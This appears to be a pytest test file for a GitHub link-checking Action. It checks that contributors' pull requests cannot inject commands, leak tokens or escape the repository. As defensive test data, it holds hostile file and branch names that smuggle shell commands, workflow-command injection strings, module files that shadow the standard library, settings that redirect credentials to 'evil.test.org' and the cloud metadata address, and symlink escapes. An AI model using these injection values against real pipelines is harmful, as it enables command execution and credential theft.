"""The Action on a pull request: its own lines alone, and nothing that a contributor writes can act."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.action.github import Api
from tests.action.runner import TOKEN, Result, Stage, git

LIST = "# Reading\n\n- [one](https://a.test.org/one)\n- [gone](https://a.test.org/gone)\n"
WEB = {"https://a.test.org/one": 200, "https://a.test.org/gone": 404, "https://a.test.org/new": 404}


@pytest.fixture
def stage(tmp_path: Path, api: Api) -> Stage:
    stage = Stage(tmp_path, api=api.url, web=WEB)
    stage.push({"README.md": LIST})
    return stage


def propose(stage: Stage, files: dict[str, str], branch: str = "proposal", **inputs: str) -> Result:
    base = git(stage.origin, "rev-parse", "main")
    stage.push(files, "a proposal", branch)
    return stage.run(event="pull_request", ref=branch, base=base, **inputs)


def asked(stage: Stage) -> list[dict[str, object]]:
    if not stage.requests_log.exists():
        return []
    return [json.loads(line) for line in stage.requests_log.read_text(encoding="utf-8").splitlines()]


def test_only_its_own_lines_are_checked(stage: Stage) -> None:
    fine = propose(stage, {"README.md": LIST + "- [one](https://a.test.org/one?again)\n"})
    assert fine.code == 0, fine.log
    assert fine.outputs["links"] == "1"
    assert not fine.annotations
    assert {request["path"] for request in asked(stage)} == {"/one"}


def test_a_new_dead_link_is_an_annotation_on_its_line(stage: Stage) -> None:
    result = propose(stage, {"README.md": "- [new](https://a.test.org/new)\n" + LIST})
    assert result.code == 1
    assert len(result.annotations) == 1
    assert result.annotations[0].startswith("::error file=README.md,line=1,col=9,")


def test_nothing_is_committed_and_no_issue_touched(stage: Stage, api: Api) -> None:
    files = {"README.md": LIST + "- [new](https://a.test.org/new)\n"}
    result = propose(stage, files, deliver="commit", open_issue="true", report="README.report.md")
    assert result.outputs["changed"] == ""
    assert stage.log("proposal") == ["a proposal", "a change"]
    assert api.calls == []
    assert "Save what is known" not in result.ran


@pytest.mark.parametrize("event", ["pull_request_target", "workflow_run", "issue_comment"])
def test_events_that_contributions_cause_write_nothing(stage: Stage, api: Api, event: str) -> None:
    """They run on the base branch with its token: what they keep would be believed by the next run there."""
    before = stage.log()
    result = stage.run(event=event, deliver="commit", open_issue="true", report="README.report.md", fix="pull-request")
    assert "Check links" in result.ran
    assert {"Save what is known", "Deliver the reports", "Keep the issue"}.isdisjoint(result.ran)
    assert stage.log() == before
    assert api.calls == []


HOSTILE_NAMES = (
    "$(touch pwned).md",
    "`touch pwned`.md",
    "-o pwned.md",
    "--output=pwned.md",
    "a;touch pwned;.md",
    "x\n::set-output name=code::0\n.md",
    "::stop-commands::x.md",
    "a\nGITHUB_TOKEN=x.md",
    "*.md",
    "'quoted\" name.md",
    "名字.md",
)


def test_file_names_stay_names(stage: Stage) -> None:
    files = {f"lists/{name}": f"- [n](https://a.test.org/gone?{n})\n" for n, name in enumerate(HOSTILE_NAMES)}
    result = propose(stage, files, paths="lists")
    assert result.code == 1, result.log
    assert result.outputs["links"] == str(len(HOSTILE_NAMES))
    assert result.outputs["exit-code"] == "1"
    assert not list(stage.folder.rglob("pwned*"))
    commands = [line for line in result.log.splitlines() if line.lstrip().startswith("::")]
    assert all(line.startswith(("::error file=lists/", "::error title=linkcheck::+")) for line in commands), commands
    assert len(commands) == 10


def test_a_hostile_name_may_be_the_only_path(stage: Stage) -> None:
    result = propose(stage, {"--output=pwned.md": "- [n](https://a.test.org/gone)\n"}, paths="--output=pwned.md")
    assert result.code == 1, result.log
    assert result.outputs["links"] == "1"
    assert [path.name for path in stage.folder.rglob("pwned*")] == []


@pytest.mark.parametrize("branch", ["$(touch${IFS}pwned)", "a;touch${IFS}pwned&&`id>pwned`", "--delete"])
def test_branch_names_stay_names(stage: Stage, branch: str) -> None:
    """A branch of such a name that runs on push, where reports are committed."""
    stage.push({"b.md": LIST}, branch=f"x/{branch}")
    result = stage.run(event="push", ref=f"x/{branch}", report="out.md", deliver="commit", fail_on="none")
    assert result.code == 0, result.log
    assert stage.log(f"refs/heads/x/{branch}")[0].startswith("Link report: first run: ")
    assert not list(stage.folder.rglob("pwned*"))


def test_modules_in_the_repository_are_not_imported(stage: Stage) -> None:
    hostile = f"open({str(stage.folder / 'pwned')!r}, 'w').write('x')\n"
    names = ("venv", "ensurepip", "pip", "json", "shlex", "inputs", "linkcheck", "fetchers/__init__", "sitecustomize")
    files = {f"{name}.py": hostile for name in names}
    result = propose(stage, {**files, "README.md": LIST + "- [n](https://a.test.org/one?n)\n"})
    assert result.code == 0, result.log
    assert not (stage.folder / "pwned").exists()


def test_titles_and_addresses_stay_text(stage: Stage) -> None:
    text = "- [::error::x ##[command]y](https://a.test.org/new)\n- [`${{ github.token }}`](https://a.test.org/gone?x=::warning::y)\n"
    result = propose(stage, {"b.md": text}, paths="b.md")
    commands = [line for line in result.log.splitlines() if line.startswith("::")]
    assert len(commands) == 2
    assert all(line.startswith("::error file=b.md,line=") for line in commands)
    assert "##[" not in result.log


@pytest.mark.parametrize("name", ["paths", "args", "formats", "fail_on", "since"])
def test_inputs_are_not_evaluated(stage: Stage, name: str) -> None:
    word = "$(touch pwned) `touch pwned`; touch pwned | touch pwned > pwned && touch pwned"
    refused = stage.run(**{name: word})
    assert refused.code == 2, refused.log
    assert not list(stage.folder.rglob("pwned*"))


def test_texts_for_the_commit_are_not_evaluated(stage: Stage) -> None:
    word = "$(touch pwned) `touch pwned`; touch pwned"
    done = stage.run(deliver="commit", fail_on="none", report=f"{word}.md", commit_message=word)
    assert done.code == 0, done.log
    assert stage.log()[0].startswith(word)
    assert not [path for path in stage.folder.rglob("pwned*") if path.name == "pwned"]


SETTINGS = """
allow-private = true
state = "../../pwned.db"
exclude = []

[services]
github = "https://evil.test.org/github"
huggingface = "https://evil.test.org/hub"
bilibili = "https://evil.test.org/bilibili"

[hosts."169.254.169.254"]
headers = { Metadata = "true" }

[hosts."a.test.org"]
headers = { X-Token = "theirs" }
"""


def test_settings_of_a_contribution_send_no_token_anywhere(stage: Stage) -> None:
    stage.web = {**WEB, "https://evil.test.org/github": 200, "https://api.github.com/x": 200}
    stage.environment = {"HF_TOKEN": "hf-secret", "ZHIHU_COOKIE": "z=secret"}
    new = (
        "- [r](https://github.com/o/r)\n- [m](https://huggingface.co/o/m)\n- [one](https://a.test.org/one?x)\n"
        "- [meta](http://169.254.169.254/latest)\n- [evil](https://evil.test.org/github)\n"
    )
    result = propose(stage, {"linkcheck.toml": SETTINGS, "README.md": LIST + new}, fail_on="none")
    assert result.code == 0, result.log
    assert "of a contribution's settings" in result.log
    seen = asked(stage)
    told = [(request["host"], request["secrets"]) for request in seen if request["secrets"]]
    # The API base is the environment's, where the token belongs; it is the loopback API here.
    assert not told
    assert "evil.test.org" in {request["host"] for request in seen}
    assert not any(str(request["host"]).startswith("169.254") for request in seen)
    assert not list(stage.folder.rglob("pwned*"))
    assert TOKEN not in result.log + result.summary


def test_the_api_alone_gets_the_token(stage: Stage, api: Api) -> None:
    result = propose(stage, {"README.md": LIST + "- [r](https://github.com/o/r)\n"}, args="--allow-private")
    assert result.code in (0, 1), result.log
    assert {token for _, _, token in api.calls} <= {f"Bearer {TOKEN}", f"token {TOKEN}"}


def test_files_that_commit_would_follow_out_of_the_repository_are_left(stage: Stage) -> None:
    secret = stage.folder / "secret.txt"
    secret.write_text("secret")
    clone = stage.clone("link")
    (clone / "out.md").symlink_to(secret)
    (clone / "folder").symlink_to(stage.folder)
    git(clone, "add", ".")
    git(clone, "commit", "--quiet", "--message", "links")
    git(clone, "push", "--quiet", "origin", "HEAD:main")
    result = stage.run(report="out.md", formats="json=../escaped.json", deliver="commit", fail_on="none")
    assert result.code == 0, result.log
    assert secret.read_text() == "secret"
    assert "# Link report" in stage.show("out.md")
    assert "outside of the repository" in result.log
    result = stage.run(report="folder/escaped.md", deliver="commit", fail_on="none")
    assert "secret" not in stage.show("out.md")
